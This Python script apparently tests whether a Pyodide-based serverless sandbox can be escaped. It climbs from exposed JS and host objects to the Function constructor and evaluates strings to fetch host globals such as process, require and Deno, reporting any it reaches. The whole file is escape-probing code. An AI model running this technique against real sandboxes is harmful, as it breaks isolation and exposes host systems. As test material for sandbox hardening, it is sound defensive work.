# Climbs from any object that Python holds to the Function constructor, and asks it for the host.
# Known from: the vm2 and Node `vm` escapes (constructor.constructor("return process")()).
# expect: success
import js
import pyodide_js
import _faas_host

objects = [js, js.Object, js.console, js.Math, js.performance, js.crypto, pyodide_js, pyodide_js._api, pyodide_js._module,
           pyodide_js.FS, _faas_host, _faas_host.sleep, _faas_host.finish, pyodide_js.globals, js.setTimeout, js.TextDecoder]
wanted = ["process", "require", "Deno", "__bootstrap", "__faas", "__faasEngine", "__faasBoot", "read", "readbuffer", "load",
          "window", "importScripts", "WorkerGlobalScope", "d8", "os", "quit", "gc", "version", "arguments.callee.caller"]
for thing in objects:
    for name in wanted:
        for body in (f"return {name}", f"return this.{name}", f"return globalThis['{name}']", f"return (0, eval)('{name}')"):
            try:
                value = thing.constructor.constructor(body)()
                if value is not None and str(value) not in ("undefined", "jsnull"):
                    print("ESCAPED:", name, str(value)[:200])
            except BaseException:
                pass
print("looked at", len(objects))
